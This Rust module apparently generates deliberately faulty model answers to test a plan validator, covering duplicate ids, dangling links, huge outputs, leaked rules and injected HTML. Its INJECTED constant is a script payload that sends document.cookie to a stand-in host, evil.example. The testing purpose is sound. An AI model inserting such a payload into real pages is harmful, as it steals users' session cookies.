//! Answers with the faults that a model may make.

use serde::Serialize;

use super::{Next, Scaffold, Step, Steps};
use crate::behaviour::Behaviour;

const INJECTED: &str =
    "<script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>";
const MIB: usize = 1 << 20;

/// A plan with the fault that was asked for.
pub(super) fn scaffold(mut scaffold: Scaffold, behaviour: Behaviour, rules: &str) -> String {
    match behaviour {
        Behaviour::DuplicateIds => {
            let key = scaffold.branches[0].key.clone();
            for branch in &mut scaffold.branches {
                branch.key.clone_from(&key);
            }
        }
        Behaviour::InjectedHtml => INJECTED.clone_into(&mut scaffold.summary),
        Behaviour::LeakedRules => rules.clone_into(&mut scaffold.summary),
        _ => {}
    }
    other(&scaffold, behaviour)
}

/// A branch with the fault that was asked for.
pub(super) fn branch(mut branch: Steps, behaviour: Behaviour, rules: &str) -> String {
    let steps = &mut branch.steps;
    match behaviour {
        Behaviour::DuplicateIds => {
            let id = steps[0].id.clone();
            steps[1].id = id;
        }
        Behaviour::AskCycle => {
            let id = steps[0].id.clone();
            for step in steps.iter_mut().filter(|step| step.kind == "ask") {
                for next in &mut step.next {
                    next.to.clone_from(&id);
                }
            }
        }
        Behaviour::Dangling => {
            if let Some(next) = steps.iter_mut().flat_map(|step| &mut step.next).next() {
                "nowhere".clone_into(&mut next.to);
            }
        }
        Behaviour::Unreachable => {
            let mut alone = steps[0].clone();
            "left_alone".clone_into(&mut alone.id);
            "Nothing leads here".clone_into(&mut alone.title);
            steps.push(alone);
        }
        Behaviour::InjectedHtml => INJECTED.clone_into(&mut steps[0].body),
        Behaviour::LeakedRules => rules.clone_into(&mut steps[0].body),
        Behaviour::TenThousandSteps => *steps = (0..10_000).map(numbered).collect(),
        _ => {}
    }
    other(&branch, behaviour)
}

fn numbered(number: usize) -> Step {
    Step {
        id: format!("s{number}"),
        kind: "do".to_owned(),
        title: format!("Action {number}"),
        body: String::new(),
        risk: "none".to_owned(),
        next: vec![Next { label: "Done".to_owned(), to: format!("s{}", number + 1) }],
        src: Vec::new(),
    }
}

/// Any answer as text, with the faults that all can have.
pub(super) fn other(answer: &impl Serialize, behaviour: Behaviour) -> String {
    let text = serde_json::to_string(answer).unwrap_or_default();
    match behaviour {
        Behaviour::WrongSchema => r#"{"unexpected":{"answer":42}}"#.to_owned(),
        Behaviour::Prose => {
            format!("Certainly! Here is what you asked for:\n\n{text}\n\nTell me should you need more.")
        }
        Behaviour::Huge => format!("{text}{}", " ".repeat(9 * MIB)),
        Behaviour::HugeEvent => format!("{text}{}", " ".repeat(2 * MIB)),
        _ => text,
    }
}
